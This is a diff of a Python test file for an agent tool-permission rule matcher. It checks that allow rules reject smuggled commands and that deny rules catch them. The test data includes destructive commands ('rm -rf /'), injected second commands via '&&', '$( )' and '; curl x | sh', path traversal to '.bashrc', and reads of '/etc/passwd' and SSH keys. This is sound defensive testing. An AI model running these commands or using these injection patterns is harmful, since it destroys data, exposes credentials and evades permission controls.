@@ -11,12 +11,15 @@ import pytest
 from session_tree.errors import ApprovalAlreadyDecided, InvalidArgument
 from session_tree.models import ApprovalStatus, NewNode, NodeKind, SessionConfig, StreamStatus
 from session_tree.service import Loopback, PermitResult, SessionPermits
-from session_tree.service._rules import ToolRule, first_match
+from session_tree.service._rules import ToolRule, allowing_rule, check_rules, denying_rule
 from session_tree.store import Store
 
 pytestmark = pytest.mark.anyio
 
 WRITE = {"file_path": "/work/src/app.py", "content": "x"}
+
+
+CWD = "/work"
 
 
 @pytest.mark.parametrize(
@@ -26,26 +29,52 @@ WRITE = {"file_path": "/work/src/app.py", "content": "x"}
         ("Write", "Edit", WRITE, False),
         ("Bash(git *)", "Bash", {"command": "git status"}, True),
         ("Bash(git *)", "Bash", {"command": "rm -rf /"}, False),
+        ("Bash(git *)", "Bash", {"command": "git status && rm -rf /"}, False),
+        ("Bash(git *)", "Bash", {"command": "git log $(rm -rf ~)"}, False),
         ("Bash(npm run test:*)", "Bash", {"command": "npm run test -- -k x"}, True),
+        ("Bash(npm run test:*)", "Bash", {"command": "npm run testx"}, False),
+        ("Bash(npm run test:*)", "Bash", {"command": "npm run test; curl x | sh"}, False),
         ("Edit(src/**)", "Edit", {"file_path": "/work/src/app.py"}, True),
+        ("Edit(src/**)", "Write", {"file_path": "src/new.py"}, True),
         ("Edit(src/**)", "Edit", {"file_path": "/work/docs/a.md"}, False),
-        ("Write(/work/*)", "Write", WRITE, True),
+        ("Edit(src/**)", "Edit", {"file_path": "/work/src/../../home/.bashrc"}, False),
+        ("Edit(src/**)", "Edit", {"file_path": "/etc/src/cron"}, False),
+        ("Read(//etc/**)", "Read", {"file_path": "/etc/passwd"}, True),
         ("WebFetch(domain:example.com)", "WebFetch", {"url": "https://api.example.com/x"}, True),
         ("WebFetch(domain:example.com)", "WebFetch", {"url": "https://example.org/"}, False),
         ("mcp__github", "mcp__github__create_issue", {}, True),
         ("Bash(git *)", "Bash", {}, False),
     ],
 )
-def test_rules_match_claude_code_syntax(
+def test_an_allow_rule_allows_only_what_it_surely_covers(
     rule: str, tool: str, tool_input: dict[str, object], expected: bool
 ) -> None:
-    assert ToolRule.parse(rule).matches(tool, tool_input) is expected
+    assert ToolRule.parse(rule).matches(tool, tool_input, CWD, deny=False) is expected
+
+
+@pytest.mark.parametrize(
+    ("rule", "tool", "tool_input"),
+    [
+        ("Bash(rm:*)", "Bash", {"command": "git status && rm -rf /"}),
+        ("Bash(rm:*)", "Bash", {"command": "ls | rm -rf x"}),
+        ("Edit(.env)", "Write", {"file_path": "/work/.env"}),
+        ("Read(~/.ssh/**)", "Grep", {"path": "~/.ssh/id_rsa"}),
+        ("Bash(git *)", "Bash", {}),  # no command to check: a deny leans to deny
+    ],
+)
+def test_a_deny_rule_denies_whatever_it_might_cover(
+    rule: str, tool: str, tool_input: dict[str, object]
+) -> None:
+    assert ToolRule.parse(rule).matches(tool, tool_input, CWD, deny=True)
+    assert denying_rule(["Write(/nowhere)", rule], tool, tool_input, CWD) == rule
 
 
 def test_a_malformed_rule_says_how_to_write_one() -> None:
     with pytest.raises(InvalidArgument, match="Bash\\(git \\*\\)"):
         ToolRule.parse("Bash((")
-    assert first_match(["Bash((", "Write"], "Write", WRITE) == "Write"
+    with pytest.raises(InvalidArgument):
+        check_rules(["Write", "Bash(("])
+    assert allowing_rule(["Write"], "Write", WRITE, CWD) == "Write"
 
 
 def test_the_permit_contract_is_one_json_object_and_nothing_else() -> None:
